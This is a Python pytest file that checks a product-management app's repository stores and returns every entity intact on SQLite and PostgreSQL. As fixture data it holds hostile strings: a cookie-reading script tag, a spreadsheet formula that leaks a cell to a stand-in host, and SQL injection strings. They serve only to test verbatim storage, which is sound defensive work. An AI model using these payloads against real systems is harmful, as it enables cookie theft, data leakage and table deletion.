"""Every entity goes in and comes back out whole, on SQLite and PostgreSQL.

One realistic, linked workspace (accounts in three currencies, a relayed request, hostile
text, unicode, nested raw JSON, non-UTC timestamps with microseconds) is written through the
repository in one unit of work and read back in a fresh session; the objects read must equal
the objects written, field by field.
"""

from __future__ import annotations

import dataclasses
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from typing import Any

import pytest
from sqlalchemy import Engine, text
from sqlalchemy.orm import Session

from tradeoff.domain.accounts import Account, Person
from tradeoff.domain.deals import (
    Competitor,
    CompetitorMention,
    Deal,
    DealCompetitor,
    LossClassification,
)
from tradeoff.domain.decisions import (
    Assumption,
    AssumptionJudgement,
    Decision,
    DecisionLink,
    Experiment,
)
from tradeoff.domain.enums import (
    AccountLifecycle,
    AssignedBy,
    AssumptionStatus,
    CompetitorKind,
    CompetitorRelation,
    DealOutcome,
    DecisionStatus,
    EvidenceKind,
    ExperimentResult,
    ExperimentStatus,
    ImportStatus,
    Level,
    LossCategory,
    MetricDirection,
    MetricKind,
    OpportunityStatus,
    PersonRole,
    RoadmapChangeKind,
    RoadmapHorizon,
    RoadmapStatus,
    ThemeStatus,
)
from tradeoff.domain.evidence import EvidenceItem, EvidenceTheme, ImportBatch, Theme
from tradeoff.domain.problems import (
    Opportunity,
    OpportunityEstimate,
    OpportunityProblem,
    Problem,
    ProblemEvidence,
    ProblemSymptom,
    ProblemTheme,
)
from tradeoff.domain.rules import RuleViolation
from tradeoff.domain.strategy import (
    Goal,
    KeyResult,
    MetricDefinition,
    MetricValue,
    ProductArea,
    RoadmapChange,
    RoadmapItem,
    RoadmapItemGoal,
    RoadmapItemOpportunity,
    TeamMember,
)
from tradeoff.domain.workspace import CurrencyRate
from tradeoff.errors import NotFound, TradeoffError
from tradeoff.storage import repository
from tradeoff.storage.repository import ROW_FOR
from tradeoff.storage.session import read_session, write_session

LONDON_SUMMER = timezone(timedelta(hours=1))
MUMBAI = timezone(timedelta(hours=5, minutes=30))
NEW_YORK = timezone(timedelta(hours=-5))
SHA = "3a7bd3e2360a3d29eea436fcfb7e44c735d117c42d1c1835420b6b9942dd4f1b"
HOSTILE_TITLE = "<script>alert(document.cookie)</script>"
FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Open ticket")'


def build_workspace(session: Session) -> list[Any]:
    """Add one linked example of every entity; returns them as the repository stored them."""
    stored: list[Any] = []

    def keep(entity: Any) -> Any:
        saved = repository.add(session, entity)
        if hasattr(entity, "id"):
            assert isinstance(saved.id, int)
            assert saved == dataclasses.replace(entity, id=saved.id)
        else:
            assert saved == entity
        stored.append(saved)
        return saved

    brightwater = keep(
        Account(
            name="Brightwater Logistics",
            domain="brightwater.co.uk",
            segment="Mid-market",
            plan="Growth",
            arr=Decimal("48000.00"),
            currency="GBP",
            employees=420,
            region="EMEA",
            lifecycle=AccountLifecycle.CUSTOMER,
            renewal_on=date(2026, 9, 30),
            source="hubspot",
            external_id="C-1001",
            attributes={"industry": "Freight", "csm": "Priya Raman"},
        )
    )
    hafen = keep(
        Account(
            name="Hafen Logistik GmbH",
            domain="hafenlogistik.de",
            arr=Decimal("61250.50"),
            currency="EUR",
            lifecycle=AccountLifecycle.CHURNED,
            churned_at=datetime(2026, 2, 1, 0, 30, 0, 250000, tzinfo=timezone(timedelta(hours=1))),
        )
    )
    keep(Account(name="株式会社クモ物流", arr=Decimal(9800000), currency="JPY"))
    zoe = keep(
        Person(
            name="Zoë O'Brien",
            email="zoe.obrien@brightwater.co.uk",
            account_id=brightwater.id,
            role=PersonRole.END_USER,
            source="zendesk",
            external_id="u-77",
        )
    )
    priya = keep(Person(name="Priya Raman", email="priya.raman@tradewinds.io", role="csm"))
    batch = keep(
        ImportBatch(
            source="zendesk",
            file_name="tickets-2026-03 (Zoë's export).csv",
            sha256=SHA,
            mapping={"Subject": "title", "Body": "text", "Requester email": "person_email"},
            started_at=datetime(2026, 3, 31, 18, 0, 1, 5, tzinfo=LONDON_SUMMER),
            finished_at=datetime(2026, 3, 31, 18, 0, 4, 999999, tzinfo=LONDON_SUMMER),
            status=ImportStatus.COMPLETED,
            inserted=2,
            updated=1,
            unchanged=0,
            rejected=1,
        )
    )
    ticket = keep(
        EvidenceItem(
            source="zendesk",
            external_id="48213",
            kind=EvidenceKind.TICKET,
            title=HOSTILE_TITLE,
            text=f"We rebuild the carrier report in Excel every Monday.\n{FORMULA}\nZoë 🚚",
            created_at=datetime(2026, 3, 2, 14, 5, 9, 123456, tzinfo=MUMBAI),
            account_id=brightwater.id,
            person_id=zoe.id,
            rating=2.5,
            tags=["reporting", "export", "Excel"],
            url="https://brightwater.zendesk.com/agent/tickets/48213",
            raw={
                "id": 48213,
                "priority": "high",
                "requester": {"name": "Zoë O'Brien", "locale": "en-GB"},
                "custom_fields": [{"id": 1, "value": None}, {"id": 2, "value": "ß ✓ 🚚"}],
                "satisfied": False,
                "score": 0.25,
            },
            import_batch_id=batch.id,
        )
    )
    relayed = keep(
        EvidenceItem(
            source="hubspot-notes",
            external_id="note-9",
            kind=EvidenceKind.INTERNAL_REQUEST,
            text="Hafen say they would have stayed with late-carrier alerts.",
            created_at=datetime(2026, 1, 20, 9, 0),
            account_id=hafen.id,
            relayed_by_id=priya.id,
        )
    )
    reporting = keep(Theme(name="Reporting", created_at=datetime(2026, 3, 3, 8, 0, tzinfo=UTC)))
    excel = keep(
        Theme(
            name="Excel export",
            description="People rebuild reports outside the product",
            parent_id=reporting.id,
            created_at=datetime(2026, 3, 3, 8, 1, tzinfo=UTC),
        )
    )
    keep(
        Theme(
            name="CSV download",
            status=ThemeStatus.MERGED,
            merged_into_id=excel.id,
            created_at=datetime(2026, 3, 3, 8, 2, tzinfo=UTC),
        )
    )
    keep(EvidenceTheme(evidence_id=ticket.id, theme_id=excel.id, score=0.87))
    keep(
        EvidenceTheme(
            evidence_id=relayed.id, theme_id=reporting.id, score=1.0, assigned_by=AssignedBy.PERSON
        )
    )
    late = keep(
        Problem(
            statement="Dispatchers cannot see late carriers until the customer calls.",
            who_has_it="Dispatch leads at mid-market 3PLs",
            trying_to="Warn customers before a delivery slips",
            goes_wrong="They learn about delays from angry phone calls",
            severity=Level.HIGH,
            created_at=datetime(2026, 3, 4, 10, 0, tzinfo=NEW_YORK),
        )
    )
    manual = keep(
        Problem(
            statement="Carrier report rebuilt by hand every Monday",
            created_at=datetime(2026, 3, 4, 10, 5, tzinfo=UTC),
        )
    )
    keep(ProblemEvidence(problem_id=late.id, evidence_id=ticket.id, note="Root cause"))
    keep(ProblemEvidence(problem_id=manual.id, evidence_id=ticket.id))
    keep(ProblemSymptom(symptom_id=manual.id, problem_id=late.id))
    keep(ProblemTheme(problem_id=manual.id, theme_id=excel.id))
    alerts = keep(
        Opportunity(
            title="Late-carrier alerts",
            solution_hypothesis="Push an alert to dispatch when an ETA slips 30 minutes",
            status=OpportunityStatus.EXPLORING,
            created_at=datetime(2026, 3, 5, 12, 0, tzinfo=UTC),
        )
    )
    keep(OpportunityProblem(opportunity_id=alerts.id, problem_id=late.id))
    keep(
        OpportunityEstimate(
            opportunity_id=alerts.id,
            field="effort_weeks",
            value=6.0,
            low=4.0,
            high=10.0,
            confidence=0.6,
            reason="Two engineers; the ETA feed is already there",
            entered_by="Marcus Oyelaran",
            entered_at=datetime(2026, 3, 6, 9, 0, tzinfo=LONDON_SUMMER),
        )
    )
    lost_deal = keep(
        Deal(
            source="salesforce",
            external_id="006Dn00000AbCdE",
            account_id=hafen.id,
            name="Hafen Logistik — fleet rollout",
            amount=Decimal("86500.00"),
            currency="EUR",
            stage="Closed Lost",
            outcome=DealOutcome.LOST,
            created_at=datetime(2025, 11, 3, 9, 15, tzinfo=UTC),
            closed_at=datetime(2026, 1, 30, 17, 45, 30, tzinfo=LONDON_SUMMER),
            loss_reason=f"Went with Freightly. {FORMULA}",
            notes="Buyer: <b>Jonas Müller</b>",
            owner="Marcus Oyelaran",
            deal_type="New business",
            lead_source="Webinar",
            import_batch_id=batch.id,
        )
    )
    keep(
        Deal(
            source="salesforce",
            external_id="006Dn00000XyZ12",
            name="株式会社クモ物流 pilot",
            amount=Decimal(1250000),
            currency="JPY",
        )
    )
    freightly = keep(
        Competitor(name="Freightly", aliases=["freightly.io", "Freightly Inc"], kind="direct")
    )
    spreadsheet = keep(Competitor(name="Excel spreadsheet", kind=CompetitorKind.STATUS_QUO))
    keep(
        DealCompetitor(
            deal_id=lost_deal.id, competitor_id=freightly.id, relation=CompetitorRelation.LOST_TO
        )
    )
    keep(DealCompetitor(deal_id=lost_deal.id, competitor_id=spreadsheet.id))
    keep(
        CompetitorMention(
            evidence_id=ticket.id, competitor_id=freightly.id, mentioned_as="Freightly"
        )
    )
    keep(
        LossClassification(
            deal_id=lost_deal.id,
            category=LossCategory.PRODUCT_GAP,
            assigned_by=AssignedBy.PERSON,
            cues=["went with"],
            classified_at=datetime(2026, 2, 1, 9, 0, tzinfo=UTC),
        )
    )
    keep(CurrencyRate(currency="gbp", per_base=Decimal("1.27")))
    detect = keep(
        MetricDefinition(
            name="Time to detect a late carrier",
            description="Minutes from ETA slip to dispatcher acknowledgement",
            formula="median(ack_at - slip_at)",
            unit="minutes",
            direction=MetricDirection.DOWN_IS_GOOD,
            owner="Dana Whitfield",
            source="warehouse.dispatch_events",
            kind=MetricKind.OUTCOME,
        )
    )
    keep(MetricValue(metric_id=detect.id, observed_on=date(2026, 3, 30), value=95.5))
    keep(
        MetricValue(metric_id=detect.id, observed_on=date(2026, 3, 30), value=71.25, segment="EMEA")
    )
    goal = keep(
        Goal(
            title="Customers hear about delays from us first",
            period="2026Q3",
            description="Fewer angry calls",
            owner="Dana Whitfield",
        )
    )
    keep(
        KeyResult(
            goal_id=goal.id,
            description="Median time to detect below 15 minutes",
            metric_id=detect.id,
            baseline=95.5,
            target=15.0,
            due_on=date(2026, 9, 30),
        )
    )
    tracking = keep(
        ProductArea(
            key="tracking", name="Shipment tracking", owner_email="ana.silva@fleetwise.example"
        )
    )
    keep(ProductArea(key="billing", name="Billing"))
    keep(
        TeamMember(
            email="Ana.Silva@fleetwise.example", name="Ana Silva", title="Senior PM", role="PM"
        )
    )
    item = keep(
        RoadmapItem(
            title="Late-carrier alerts",
            description="Beta for five accounts",
            horizon=RoadmapHorizon.QUARTER,
            quarter="2026Q3",
            rank=1,
            status=RoadmapStatus.IN_PROGRESS,
            metric_id=detect.id,
            area_id=tracking.id,
            owner="ana.silva@fleetwise.example",
            requested_by="dana.whitfield@fleetwise.example",
        )
    )
    keep(RoadmapItem(title="Carrier scorecards", shipped_on=None))
    keep(RoadmapItemGoal(item_id=item.id, goal_id=goal.id))
    keep(RoadmapItemOpportunity(item_id=item.id, opportunity_id=alerts.id))
    keep(
        RoadmapChange(
            item_id=item.id,
            kind=RoadmapChangeKind.HORIZON,
            old_value="later",
            new_value="quarter",
            changed_by="Dana Whitfield (CEO)",
            reason="Hafen Logistik churned citing late alerts",
            changed_at=datetime(2026, 4, 1, 16, 45, 0, 1, tzinfo=LONDON_SUMMER),
        )
    )
    scorecards_first = keep(
        Decision(
            title="Build scorecards first",
            options=["Scorecards first", "Alerts first"],
            chosen_option="Scorecards first",
            status=DecisionStatus.SUPERSEDED,
            decided_at=datetime(2026, 1, 10, 11, 0, tzinfo=UTC),
        )
    )
    alerts_first = keep(
        Decision(
            title="Build late-carrier alerts before scorecards",
            context="Two churned accounts cited late alerts",
            options=["Scorecards first", "Alerts first", "Buy from Freightly"],
            chosen_option="Alerts first",
            tradeoffs_accepted="Scorecards slip a quarter",
            not_optimising_for="Enterprise carrier analytics",
            assumptions=["Dispatchers act on alerts within 10 minutes"],
            revisit_signals=["Alert adoption < 20% after 6 weeks", "Freightly ships alerts"],
            owner="Dana Whitfield",
            stakeholders=["Marcus Oyelaran", "Priya Raman", "Zoë O'Brien"],
            decided_at=datetime(2026, 4, 2, 10, 0, tzinfo=NEW_YORK),
            status=DecisionStatus.DECIDED,
            supersedes_id=scorecards_first.id,
            requested_by="Priya Raman (CSM)",
            reply_text="Not scorecards yet: alerts first, because two churned accounts cited them.",
            recorded_at=datetime(2026, 4, 2, 10, 5, tzinfo=NEW_YORK),
            metric_id=detect.id,
            shipped_on=date(2026, 5, 18),
        )
    )
    keep(DecisionLink(decision_id=alerts_first.id, option_index=1, opportunity_id=alerts.id))
    assumption = keep(
        Assumption(
            statement="Dispatchers act on alerts within 10 minutes",
            risk=Level.HIGH,
            confidence=0.35,
            status=AssumptionStatus.TESTING,
            decision_id=alerts_first.id,
            opportunity_id=alerts.id,
        )
    )
    keep(
        AssumptionJudgement(
            assumption_id=assumption.id,
            status=AssumptionStatus.TESTING,
            previous_status=AssumptionStatus.UNTESTED,
            reason="Beta dispatchers said alerts arrive too late to act on",
            judged_at=datetime(2026, 4, 2, 16, 0, tzinfo=UTC),
        )
    )
    keep(
        Experiment(
            assumption_id=assumption.id,
            hypothesis="Alerts cut median time to detect below 30 minutes for beta accounts",
            metric_id=detect.id,
            threshold=30.0,
            status=ExperimentStatus.RUNNING,
            result=ExperimentResult.PENDING,
            started_at=datetime(2026, 4, 6, 9, 0, tzinfo=LONDON_SUMMER),
            created_at=datetime(2026, 4, 3, 9, 0, tzinfo=UTC),
            decision_rule="Ship to all if the treatment's detect rate beats control at p < 0.05",
            decision_id=alerts_first.id,
            baseline_rate=0.2,
            minimum_effect=0.05,
            alpha=0.05,
            power=0.8,
            control_n=1100,
            control_successes=231,
            treatment_n=1090,
            treatment_successes=290,
        )
    )
    return stored


def primary_key(entity: Any) -> tuple[Any, ...]:
    return tuple(getattr(entity, c.key) for c in ROW_FOR[type(entity)].__mapper__.primary_key)


def of_type(entities: list[Any], cls: type[Any]) -> list[Any]:
    return sorted((e for e in entities if type(e) is cls), key=primary_key)


@pytest.fixture
def stored(engine: Engine) -> list[Any]:
    with write_session(engine) as session:
        return build_workspace(session)


def test_the_example_workspace_covers_every_stored_entity(stored: list[Any]) -> None:
    assert {type(entity) for entity in stored} == set(ROW_FOR)


@pytest.mark.parametrize("cls", list(ROW_FOR), ids=lambda cls: cls.__name__)
def test_every_entity_round_trips_whole(engine: Engine, stored: list[Any], cls: type[Any]) -> None:
    with read_session(engine) as session:
        assert repository.list_all(session, cls) == of_type(stored, cls)


def test_entities_with_an_id_can_be_fetched_by_it(engine: Engine, stored: list[Any]) -> None:
    with read_session(engine) as session:
        for entity in stored:
            if hasattr(entity, "id"):
                assert repository.get(session, type(entity), entity.id) == entity


def test_timestamps_come_back_as_aware_utc(engine: Engine, stored: list[Any]) -> None:
    with read_session(engine) as session:
        read = [e for cls in ROW_FOR for e in repository.list_all(session, cls)]
    stamps = [
        getattr(e, f.name)
        for e in read
        for f in dataclasses.fields(e)
        if isinstance(getattr(e, f.name), datetime)
    ]
    assert len(stamps) == 23  # every timestamp of the example workspace was looked at
    assert all(stamp.tzinfo is UTC for stamp in stamps)
    with read_session(engine) as session:
        ticket = repository.list_all(session, EvidenceItem)[0]
        hafen = repository.list_all(session, Account)[1]
    # 14:05:09.123456 in Mumbai is 08:35:09.123456 UTC; microseconds survive on both engines.
    assert ticket.created_at == datetime(2026, 3, 2, 8, 35, 9, 123456, tzinfo=UTC)
    assert hafen.churned_at == datetime(2026, 1, 31, 23, 30, 0, 250000, tzinfo=UTC)


def test_money_comes_back_as_exact_decimals(engine: Engine, stored: list[Any]) -> None:
    with read_session(engine) as session:
        accounts = repository.list_all(session, Account)
        deals = repository.list_all(session, Deal)
    assert [(a.arr, a.currency) for a in accounts] == [
        (Decimal("48000.00"), "GBP"),
        (Decimal("61250.50"), "EUR"),
        (Decimal(9800000), "JPY"),
    ]
    assert [(d.amount, d.currency) for d in deals] == [
        (Decimal("86500.00"), "EUR"),
        (Decimal(1250000), "JPY"),
    ]
    # Equality alone would let a float through (Decimal("0.5") == 0.5).
    assert all(isinstance(a.arr, Decimal) for a in accounts)
    assert all(isinstance(d.amount, Decimal) for d in deals)


def test_hostile_text_is_stored_verbatim(engine: Engine, stored: list[Any]) -> None:
    with read_session(engine) as session:
        ticket = repository.list_all(session, EvidenceItem)[0]
        lost = repository.list_all(session, Deal)[0]
    assert ticket.title == HOSTILE_TITLE
    assert FORMULA in ticket.text
    assert ticket.text.endswith("Zoë 🚚")
    assert lost.loss_reason == f"Went with Freightly. {FORMULA}"


@pytest.mark.parametrize(
    "hostile",
    [
        "'; DROP TABLE evidence_items; --",
        "Robert'); DELETE FROM accounts WHERE ('1'='1",
        "right-to-left \u202eoverride\u202c and zero\u200bwidth",
        "line one\r\nline two\rline three",
        "tab\tseparated\tcells",
        "NUL \x00 inside",
    ],
)
def test_odd_text_round_trips_or_is_refused_with_our_error(engine: Engine, hostile: str) -> None:
    try:
        item = EvidenceItem(
            source="typeform",
            external_id="resp-1",
            kind=EvidenceKind.SURVEY,
            text=hostile,
            title=hostile,
            created_at=datetime(2026, 3, 2, tzinfo=UTC),
            raw={"answer": hostile},
        )
    except RuleViolation as refused:
        assert "\x00" in hostile
        assert "NUL" in str(refused)  # noqa: PT017 - either outcome is acceptable
        return
    try:
        with write_session(engine) as session:
            repository.add(session, item)
    except TradeoffError:
        with read_session(engine) as session:
            assert repository.count(session, EvidenceItem) == 0
        return
    with read_session(engine) as session:
        (read,) = repository.list_all(session, EvidenceItem)
    assert (read.text, read.title, read.raw) == (hostile, hostile, {"answer": hostile})


def test_counts_match_what_was_written(engine: Engine, stored: list[Any]) -> None:
    with read_session(engine) as session:
        counts = repository.counts(session)
    assert counts == {
        "accounts": 3,
        "people": 2,
        "evidence items": 2,
        "imports": 1,
        "themes": 3,
        "problems": 2,
        "opportunities": 1,
        "deals": 2,
        "competitors": 2,
        "goals": 1,
        "key results": 1,
        "metrics": 1,
        "metric values": 2,
        "roadmap items": 2,
        "roadmap changes": 1,
        "decisions": 2,
        "assumptions": 1,
        "experiments": 1,
    }
    # Cross-check a few against the tables themselves.
    with engine.connect() as connection:
        for table, name in [("accounts", "accounts"), ("evidence_items", "evidence items")]:
            assert connection.scalar(text(f"SELECT count(*) FROM {table}")) == counts[name]  # noqa: S608


def test_an_empty_workspace_counts_zero_of_everything_in_status_order(engine: Engine) -> None:
    with read_session(engine) as session:
        counts = repository.counts(session)
    assert list(counts) == [
        "accounts",
        "people",
        "evidence items",
        "imports",
        "themes",
        "problems",
        "opportunities",
        "deals",
        "competitors",
        "goals",
        "key results",
        "metrics",
        "metric values",
        "roadmap items",
        "roadmap changes",
        "decisions",
        "assumptions",
        "experiments",
    ]
    assert set(counts.values()) == {0}


def test_list_all_is_in_primary_key_order(engine: Engine) -> None:
    names = ["Zephyr Freight", "Acme Haulage", "Møller Transport", "brightwater logistics"]
    with write_session(engine) as session:
        ids = [repository.add(session, Account(name=name)).id for name in names]
    assert ids == sorted(ids)
    with read_session(engine) as session:
        assert [a.name for a in repository.list_all(session, Account)] == names


def test_update_overwrites_every_field(engine: Engine, stored: list[Any]) -> None:
    brightwater = of_type(stored, Account)[0]
    churned = dataclasses.replace(
        brightwater,
        name="Brightwater Logistics Ltd",
        arr=Decimal("0.00"),
        lifecycle=AccountLifecycle.CHURNED,
        churned_at=datetime(2026, 4, 30, 23, 59, 59, tzinfo=NEW_YORK),
        segment=None,
        attributes={"industry": "Freight", "churn_reason": "<b>price</b>"},
    )
    with write_session(engine) as session:
        returned = repository.update(session, churned)
    assert returned == churned
    with read_session(engine) as session:
        assert repository.get(session, Account, brightwater.id) == churned
        others = repository.list_all(session, Account)[1:]
    assert others == of_type(stored, Account)[1:]


def test_update_of_a_link_row_uses_its_composite_key(engine: Engine, stored: list[Any]) -> None:
    filing = of_type(stored, EvidenceTheme)[0]
    by_hand = dataclasses.replace(filing, score=0.4, assigned_by=AssignedBy.PERSON)
    with write_session(engine) as session:
        repository.update(session, by_hand)
    with read_session(engine) as session:
        assert repository.list_all(session, EvidenceTheme) == sorted(
            [by_hand, *of_type(stored, EvidenceTheme)[1:]], key=primary_key
        )


def test_update_of_a_missing_record_is_not_found_and_writes_nothing(
    engine: Engine, stored: list[Any]
) -> None:
    ghost = dataclasses.replace(of_type(stored, Account)[0], id=424242, name="Ghost Ltd")

    def add_then_update_the_ghost() -> None:
        with write_session(engine) as session:
            repository.add(session, Account(name="Added before the failure"))
            repository.update(session, ghost)

    with pytest.raises(NotFound, match="424242"):
        add_then_update_the_ghost()
    with read_session(engine) as session:
        assert repository.list_all(session, Account) == of_type(stored, Account)


def test_update_of_an_entity_never_stored_is_not_found(engine: Engine) -> None:
    with pytest.raises(NotFound), write_session(engine) as session:
        repository.update(session, Account(name="Never stored"))


@pytest.mark.parametrize(
    ("cls", "message"),
    [
        (Account, "no account with id 424242"),
        (EvidenceItem, "no evidence item with id 424242"),
        (Decision, "no decision with id 424242"),
        (Opportunity, "no opportunity with id 424242"),
        (Person, "no person with id 424242"),
    ],
)
def test_get_of_a_missing_id_is_not_found(engine: Engine, cls: type[Any], message: str) -> None:
    with pytest.raises(NotFound) as caught, read_session(engine) as session:
        repository.get(session, cls, 424242)
    assert str(caught.value) == message


def test_a_three_decimal_currency_amount_is_not_silently_rounded(engine: Engine) -> None:
    try:
        account = Account(name="Gulf Freight Co", arr=Decimal("12500.125"), currency="KWD")
    except RuleViolation:
        return  # refusing it up front would be an acceptable fix too
    with write_session(engine) as session:
        added = repository.add(session, account)
    with read_session(engine) as session:
        assert repository.get(session, Account, added.id).arr == added.arr == Decimal("12500.125")
